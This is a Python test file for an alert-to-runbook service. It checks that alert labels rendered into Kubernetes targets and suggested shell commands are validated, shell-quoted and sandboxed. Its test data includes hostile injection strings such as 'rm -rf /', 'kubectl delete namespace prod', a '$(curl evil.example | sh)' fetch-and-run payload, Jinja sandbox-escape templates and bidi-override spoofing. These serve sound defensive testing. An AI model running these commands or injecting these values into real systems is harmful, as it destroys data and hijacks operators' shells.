"""Rendering a rule's target, params and suggested commands from an alert, safely."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from service.matching import loader, templates
from service.model import alerts, incidents

RULE = """
name: coordinator-api-outage
runbook: Coordinator API Outage
mttr_target: 2m
severity: critical
match: [alertname="CoordinatorDown"]
target:
  kind: Deployment
  namespace: "{{ labels.namespace | default('default') }}"
  name: "{{ labels.deployment | default('coordinator') }}"
  selector: app.kubernetes.io/name={{ labels.app | default('coordinator') }}
diagnose:
  - id: health
    probe: http.get
    with:
      url: "http://coordinator.{{ target.namespace }}:8011/v1/health"
      headers: {X-Alert: "{{ alert.fingerprint }}"}
      expect: [200, "{{ labels.code | default('204') }}"]
      timeout_s: 5
      follow: true
suggest:
  - kubectl rollout restart deployment/{{ target.name }} -n {{ target.namespace }}
  - command: kubectl logs -n {{ target.namespace }} {{ labels.pod }}
  - command: redis-cli --scan --pattern {{ labels.pattern }} | xargs redis-cli del
    hazard: deletes keys; never automate
"""


def make_alert(**labels: str) -> alerts.Alert:
    return alerts.Alert.model_validate(
        {
            "status": "firing",
            "labels": {"alertname": "CoordinatorDown", **labels},
            "annotations": {"summary": "coordinator is down"},
            "startsAt": datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
            "generatorURL": "http://prometheus/graph",
            "fingerprint": "f00d",
        }
    )


def context(**labels: str) -> dict[str, Any]:
    return templates.alert_context(make_alert(**labels), loader.parse_rule(RULE))


def rule_with_target(**fields: str) -> loader.CompiledRule:
    target = {"kind": "Deployment", "namespace": "default", "name": "coordinator", **fields}
    lines = "\n".join(f"  {key}: {value!r}" for key, value in target.items())
    return loader.parse_rule(
        f"name: r\nrunbook: R\nmttr_target: 1m\nmatch: ['alertname=\"A\"']\ntarget:\n{lines}\n"
    )


def test_alert_context_has_what_the_docstring_promises() -> None:
    ctx = context(namespace="shop")
    assert ctx == {
        "labels": {"alertname": "CoordinatorDown", "namespace": "shop"},
        "annotations": {"summary": "coordinator is down"},
        "alert": {
            "status": "firing",
            "fingerprint": "f00d",
            "startsAt": "2024-05-01T12:00:00Z",
            "generatorURL": "http://prometheus/graph",
        },
        "rule": {
            "name": "coordinator-api-outage",
            "runbook": "Coordinator API Outage",
            "severity": "critical",
        },
    }


def test_target_renders_from_labels() -> None:
    rule = loader.parse_rule(RULE)
    target = templates.render_target(rule.target, context(namespace="shop", app="coord-v2"))
    assert target == incidents.TargetRef(
        kind="Deployment", namespace="shop", name="coordinator", selector="app.kubernetes.io/name=coord-v2"
    )


def test_constant_target_fields_are_used_as_written_and_templated_ones_rendered() -> None:
    rule = loader.parse_rule(
        RULE.replace("namespace: \"{{ labels.namespace | default('default') }}\"", "namespace: shop")
    )
    assert rule.target is not None and dict(rule.target.literals) == {
        "kind": "Deployment",
        "namespace": "shop",
    }
    target = templates.render_target(rule.target, context(namespace="ignored", deployment="web-7"))
    assert (target.kind, target.namespace, target.name, target.valid) == ("Deployment", "shop", "web-7", True)


def test_target_default_filter_fills_a_missing_label() -> None:
    rule = loader.parse_rule(RULE)
    target = templates.render_target(rule.target, context())
    assert (target.namespace, target.valid) == ("default", True)


@pytest.mark.parametrize(
    ("labels", "error"),
    [
        (
            {"namespace": "default; rm -rf /"},
            "target.namespace: 'default; rm -rf /' is not a valid DNS-1123 label",
        ),
        ({"namespace": "UPPER"}, "target.namespace: 'UPPER' is not a valid DNS-1123 label"),
        ({"namespace": "a\nb"}, "target.namespace: 'a\\nb' is not a valid DNS-1123 label"),
        ({"namespace": "shop\n"}, "target.namespace: 'shop\\n' is not a valid DNS-1123 label"),
        ({"namespace": "x" * 64}, "target.namespace: " + repr("x" * 64) + " is not a valid DNS-1123 label"),
        ({"deployment": "../../x"}, "target.name: '../../x' is not a valid DNS-1123 subdomain"),
        ({"deployment": "a" * 300}, "target.name: " + repr("a" * 80) + "… (300 characters) is not a valid"),
        ({"deployment": "api.v2..x"}, "target.name: 'api.v2..x' is not a valid DNS-1123 subdomain"),
        ({"app": "*"}, "target.selector: label value '*' is not valid"),
        ({"app": "x,y"}, "target.selector: selector requirement 'y' is not key=value"),
        ({"app": "coord; reboot"}, "target.selector: label value 'coord; reboot' is not valid"),
    ],
)
def test_hostile_label_values_make_the_target_invalid(labels: dict[str, str], error: str) -> None:
    rule = loader.parse_rule(RULE)
    target = templates.render_target(rule.target, context(**labels))
    assert target.valid is False
    assert target.error is not None
    assert target.error.startswith(error)


def test_invalid_target_keeps_what_was_rendered() -> None:
    rule = loader.parse_rule(RULE)
    target = templates.render_target(rule.target, context(namespace="default; rm -rf /"))
    assert (target.namespace, target.name) == ("default; rm -rf /", "coordinator")


def test_kube_system_is_not_refused_here() -> None:
    rule = loader.parse_rule(RULE)
    assert templates.render_target(rule.target, context(namespace="kube-system")).valid


def test_every_invalid_field_is_reported() -> None:
    rule = loader.parse_rule(RULE)
    target = templates.render_target(rule.target, context(namespace="A", deployment="B"))
    assert target.error is not None
    assert "target.namespace:" in target.error
    assert "target.name:" in target.error


@pytest.mark.parametrize(
    ("kind", "valid"),
    [("Deployment", True), ("StatefulSet", True), ("deployment", False), ("Deploy ment", False), ("", False)],
)
def test_kind_must_be_a_kind(kind: str, valid: bool) -> None:
    rule = rule_with_target(kind="{{ labels.kind }}")
    target = templates.render_target(rule.target, context(kind=kind))
    assert target.valid is valid
    if not valid:
        assert target.error is not None
        assert target.error.startswith("target.kind:")


@pytest.mark.parametrize(
    ("selector", "valid"),
    [
        ("app.kubernetes.io/name=coordinator", True),
        ("app==coordinator,tier!=db", True),
        ("app=coordinator, tier=web", True),
        ("example.com/team=", True),  # an empty label value is a valid value
        ("app=coordinator,", False),
        ("", False),
        (" ", False),
        ("*", False),
        ("app", False),
        ("app in (a,b)", False),
        ("-app=x", False),
        ("Example.com/app=x", False),
        ("app=" + "v" * 64, False),
        ("a" * 64 + "=x", False),
    ],
)
def test_selector_validation(selector: str, valid: bool) -> None:
    rule = rule_with_target(selector="{{ labels.selector }}")
    target = templates.render_target(rule.target, context(selector=selector))
    assert target.valid is valid, target.error
    if not valid:
        assert target.error is not None
        assert target.error.startswith("target.selector:")


def test_undefined_variable_makes_the_target_invalid_not_an_exception() -> None:
    rule = rule_with_target(namespace="{{ labels.namespace }}")
    target = templates.render_target(rule.target, context())
    assert target.valid is False
    assert target.namespace == ""
    assert target.error == "target.namespace: could not render: 'dict object' has no attribute 'namespace'"


def test_sandbox_refuses_reaching_python_internals_in_a_target() -> None:
    rule = rule_with_target(name="{{ ''.__class__.__mro__ }}")
    target = templates.render_target(rule.target, context())
    assert target.valid is False
    assert target.error is not None
    assert target.error.startswith("target.name: could not render: access to attribute '__class__'")
    assert "unsafe" in target.error


def test_sandbox_refuses_mutating_the_context() -> None:
    rule = rule_with_target(name="{{ labels.update({'x': 'y'}) }}x")
    assert templates.render_target(rule.target, context()).valid is False


def test_suggestions_shell_quote_every_value() -> None:
    rule = loader.parse_rule(RULE)
    ctx = context(namespace="shop", pod="a; rm -rf /", pattern="session:*")
    ctx = templates.with_target(ctx, templates.render_target(rule.target, ctx))
    assert templates.render_suggestions(rule, ctx) == [
        incidents.SuggestedCommand(command="kubectl rollout restart deployment/coordinator -n shop"),
        incidents.SuggestedCommand(command="kubectl logs -n shop 'a; rm -rf /'"),
        incidents.SuggestedCommand(
            command="redis-cli --scan --pattern 'session:*' | xargs redis-cli del",
            hazard="deletes keys; never automate",
        ),
    ]


#: what splits, hides or reorders the line a human copies: controls (Cc), separators, bidi controls
FORBIDDEN = (
    "\n\r\t\x00\x1b\x0b\x0c\x1c\x7f\x85\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
#: what an alert may carry in a label value (no NUL, at most 1024 characters: intake refuses the rest)
HOSTILE_VALUES = st.one_of(
    st.text(),
    st.text(alphabet=st.sampled_from([*FORBIDDEN, "'", '"', "`", "$", ";", "|", "&", " ", "a", "#"])),
    st.lists(
        st.sampled_from(
            [
                "prod",
                "\n",
                "kubectl delete namespace prod #",
                "'; rm -rf / #",
                "$(curl evil.example | sh)",
                "`id`",
                "](javascript:alert(1))",
                "<http://x|y>",
                "<!here>",
                "@channel",
                "https://evil.example/x",
                "\u202egnp.exe",
                "\r\n",
                "\u2028",
            ]
        ),
        max_size=6,
    ).map("".join),
).map(lambda value: value.replace("\x00", "\x01")[: alerts.MAX_LABEL_VALUE_CHARS])  # as intake bounds it


def one_line(command: str) -> bool:
    return not any(char in command for char in FORBIDDEN) and templates.unsafe_character(command) is None


@settings(max_examples=100, deadline=None)
@given(value=HOSTILE_VALUES)
def test_suggested_command_is_one_line_and_keeps_any_label_value_as_one_word(value: str) -> None:
    rule = loader.parse_rule(RULE)
    ctx = context(namespace="shop", pod=value, pattern="x")
    ctx = templates.with_target(ctx, templates.render_target(rule.target, ctx))
    command = templates.render_suggestions(rule, ctx)[1].command
    assert one_line(command)
    if templates.unsafe_character(value) is None and len(command) <= templates.COMMAND_LIMIT:
        assert shlex.split(command) == ["kubectl", "logs", "-n", "shop", value]
    else:
        assert command.startswith("# dropped: ")  # a comment: pasting it runs nothing


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("shop\n' get pods; kubectl delete namespace prod #", "a line break"),
        ("a\rb", "a line break"),
        ("a\u2028b", "a line break"),
        ("a\x85b", "a line break"),
        ("a\tb", "a control character"),
        ("a\x01b", "a control character"),
        ("\x1b[2Kgood", "a control character"),
        ("\u202eevil", "a bidirectional control character"),
        ("x\u2066y\u2069", "a bidirectional control character"),
    ],
)
def test_a_value_that_would_break_the_line_drops_the_command_with_a_note(value: str, kind: str) -> None:
    rule = loader.parse_rule(RULE)
    ctx = templates.with_target(context(namespace="shop", pod=value, pattern="x"), _target("shop"))
    suggested = templates.render_suggestions(rule, ctx)
    assert suggested[1].command == f"# dropped: a value holds {kind} (labels.pod)"
    assert suggested[0].command == "kubectl rollout restart deployment/coordinator -n shop"  # the others stay


def test_a_value_changed_by_the_template_is_still_traced_to_its_label() -> None:
    rule = loader.parse_rule(RULE.replace("{{ labels.pod }}", "{{ labels.pod ~ '-0' }}"))
    ctx = templates.with_target(context(namespace="shop", pod="a\nb", pattern="x"), _target("shop"))
    assert templates.render_suggestions(rule, ctx)[1].command == (
        "# dropped: a value holds a line break (labels.pod)"
    )


def test_a_line_break_in_the_rule_itself_drops_the_command() -> None:
    rule = loader.parse_rule(
        RULE.replace("- command: kubectl logs", '- command: "echo 1\\nkubectl logs').replace(
            "{{ labels.pod }}\n", '{{ labels.pod }}"\n', 1
        )
    )
    ctx = templates.with_target(context(namespace="shop", pod="p", pattern="x"), _target("shop"))
    assert templates.render_suggestions(rule, ctx)[1].command == "# dropped: the command holds a line break"


def test_a_command_longer_than_the_limit_is_dropped_not_cut() -> None:
    rule = loader.parse_rule(RULE)
    ctx = templates.with_target(context(namespace="shop", pod="p" * 1000, pattern="x"), _target("shop"))
    command = templates.render_suggestions(rule, ctx)[1].command
    assert command == "# dropped: the command has 1021 characters, more than the 1000 shown"


def test_an_error_that_quotes_a_value_does_not_repeat_it() -> None:
    rule = loader.parse_rule(RULE.replace("{{ labels.pod }}", "{{ labels[annotations.summary] }}"))
    alert = make_alert(namespace="shop").model_copy(
        update={"annotations": {"summary": "x\nkubectl delete namespace prod"}}
    )
    ctx = templates.with_target(templates.alert_context(alert, rule), _target("shop"))
    command = templates.render_suggestions(rule, ctx)[1].command
    assert command == "# could not render: 'dict object' has no attribute '…'"


def test_a_suggestion_that_fails_to_render_becomes_a_comment() -> None:
    rule = loader.parse_rule(RULE)
    ctx = templates.with_target(context(namespace="shop"), _target("shop"))  # no `pod` nor `pattern` label
    suggested = templates.render_suggestions(rule, ctx)
    assert [s.command for s in suggested] == [
        "kubectl rollout restart deployment/coordinator -n shop",
        "# could not render: 'dict object' has no attribute 'pod'",
        "# could not render: 'dict object' has no attribute 'pattern'",
    ]
    assert suggested[2].hazard == "deletes keys; never automate"
    assert (
        templates.render_suggestions(rule, context())[0].command
        == "# could not render: 'target' is undefined"
    )


def test_sandbox_violation_in_a_suggestion_is_a_comment() -> None:
    rule = loader.parse_rule(RULE.replace("{{ labels.pod }}", "{{ ''.__class__.__mro__ }}"))
    suggested = templates.render_suggestions(rule, templates.with_target(context(), _target()))
    assert suggested[1].command.startswith("# could not render: access to attribute '__class__'")


@pytest.mark.parametrize(
    "command",
    [
        'sh -c "kubectl delete pod {{ labels.pod }}"',
        "echo '{{ labels.pod }}'",
        "echo `{{ labels.pod }}`",
    ],
)
def test_interpolation_inside_quotes_is_refused_at_load(command: str) -> None:
    compiler = templates.TemplateCompiler()
    with pytest.raises(templates.TemplateError, match="leave \\{\\{ \\}\\} outside quotes"):
        compiler.command(command)


def test_quotes_elsewhere_in_a_command_are_fine() -> None:
    compiler = templates.TemplateCompiler()
    template = compiler.command("""kubectl get pods -o 'jsonpath={.items[*].metadata.name}' -n {{ ns }}""")
    assert (
        template.render(ns="my shop")
        == "kubectl get pods -o 'jsonpath={.items[*].metadata.name}' -n 'my shop'"
    )


def test_params_render_nested_strings_and_keep_other_values() -> None:
    rule = loader.parse_rule(RULE)
    ctx = templates.with_target(context(namespace="shop"), _target(namespace="shop"))
    assert templates.render_params(rule.diagnose_params[0], ctx) == {
        "url": "http://coordinator.shop:8011/v1/health",
        "headers": {"X-Alert": "f00d"},
        "expect": [200, "204"],
        "timeout_s": 5,
        "follow": True,
    }


def test_params_are_not_shell_quoted() -> None:
    params, problems = templates.TemplateCompiler().params({"query": "up{ns='{{ labels.ns }}'}"}, "with")
    assert problems == []
    assert templates.render_params(params, {"labels": {"ns": "my shop"}})["query"] == "up{ns='my shop'}"


def test_params_render_failure_names_the_path() -> None:
    rule = loader.parse_rule(RULE)
    with pytest.raises(templates.TemplateError) as caught:
        templates.render_params(rule.diagnose_params[0], context())
    assert str(caught.value) == "diagnose[0].with.url: could not render: 'target' is undefined"


def test_params_sandbox_violation_raises_template_error() -> None:
    compiler = templates.TemplateCompiler()
    params, problems = compiler.params({"x": ["{{ ''.__class__ }}"]}, "remediate[0].with")
    assert problems == []
    with pytest.raises(templates.TemplateError, match=r"remediate\[0\]\.with\.x\[0\]: could not render"):
        templates.render_params(params, {})


def test_template_syntax_error_is_reported_with_its_path() -> None:
    compiler = templates.TemplateCompiler()
    _, problems = compiler.params({"a": {"b": "{{ labels.x "}}, "w")
    assert len(problems) == 1
    path, message = problems[0]
    assert path == ("a", "b")
    assert message.startswith("bad template '{{ labels.x ': unexpected end of template")


def _target(namespace: str = "default") -> incidents.TargetRef:
    return incidents.TargetRef(kind="Deployment", namespace=namespace, name="coordinator")
